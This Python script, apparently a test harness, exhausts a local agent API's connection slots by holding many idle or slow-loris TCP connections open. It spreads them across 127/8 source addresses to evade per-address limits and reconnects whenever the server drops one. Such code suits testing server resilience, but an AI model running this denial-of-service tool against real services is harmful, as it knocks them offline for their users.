"""An unauthenticated local user holding the agent API's connection slots (stdlib only, run as nobody).

Keeps ``--connections`` TCP connections open to ``--host:--port``, each from its own 127/8
source address (so a per-address limit alone does not stop it), reconnecting any the server
closes, for ``--seconds``. ``--mode idle`` never sends a byte (a TLS port never gets a
ClientHello); ``--mode slow`` sends one byte of a request head per second (slow-loris).
Prints ``ready <n>`` once the first round is connected, then ``stats <connects> <closed>`` at
the end.
"""

from __future__ import annotations

import argparse
import select
import socket
import sys
import time


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=200)
    p.add_argument("--mode", choices=("idle", "slow"), default="idle")
    p.add_argument("--seconds", type=float, default=60.0)
    p.add_argument("--same-address", action="store_true", help="every connection from 127.0.0.1")
    args = p.parse_args()
    counter = [0]

    def connect() -> socket.socket | None:
        counter[0] += 1
        i = counter[0]
        s = socket.socket()
        if not args.same_address:
            s.bind((f"127.{(i >> 16) & 255}.{(i >> 8) & 255}.{max(1, i & 255)}", 0))
        s.settimeout(2.0)
        try:
            s.connect((args.host, args.port))
        except OSError:
            s.close()
            return None
        s.setblocking(False)
        return s

    socks: list[socket.socket] = []
    for _ in range(args.connections):
        s = connect()
        if s is not None:
            socks.append(s)
    print("ready", len(socks), flush=True)
    head = b"GET /v1/status HTTP/1.1\r\nhost: x\r\n"
    sent = 0
    closed = 0
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        readable, _, _ = select.select(socks, [], [], 0.2) if socks else ([], [], [])
        for s in readable:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # the server closed it: take the slot again
                closed += 1
                socks.remove(s)
                s.close()
                fresh = connect()
                if fresh is not None:
                    socks.append(fresh)
        while len(socks) < args.connections and time.monotonic() < end:
            fresh = connect()
            if fresh is None:
                break
            socks.append(fresh)
        if args.mode == "slow" and sent < len(head):
            for s in socks:
                try:
                    s.send(head[sent:sent + 1])
                except OSError:
                    pass
            sent += 1
            time.sleep(0.8)
    print("stats", counter[0], closed, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
